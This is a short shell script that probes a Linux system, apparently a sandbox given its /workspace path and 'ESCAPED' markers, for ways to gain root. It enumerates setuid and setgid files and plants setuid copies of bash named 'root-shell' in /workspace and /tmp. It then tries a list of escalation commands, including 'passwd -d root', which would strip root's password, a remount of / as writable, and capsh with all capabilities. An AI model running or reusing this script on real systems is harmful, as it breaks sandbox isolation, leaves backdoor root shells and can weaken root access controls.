found=$(find / -xdev \( -perm -4000 -o -perm -2000 \) -type f 2>/dev/null)
[ -z "$found" ] || echo "noted: $found"
for place in /workspace /tmp; do
  cp /bin/bash "$place/root-shell" && chmod 6755 "$place/root-shell"
  "$place/root-shell" -p -c '[ "$EUID" = 0 ] && echo "ESCAPED: root by $0"'
done
for try in 'su -c id' 'sudo -n id' 'newgrp root' 'chsh -s /bin/bash' 'passwd -d root' 'mount -o remount,rw /' 'newuidmap $$ 0 0 1' 'setpriv --reuid 0 id' 'capsh --caps=all+eip --'; do
  timeout 2 bash -c "$try" </dev/null 2>/dev/null | grep 'uid=0' && echo "ESCAPED: $try"
done
exit 0
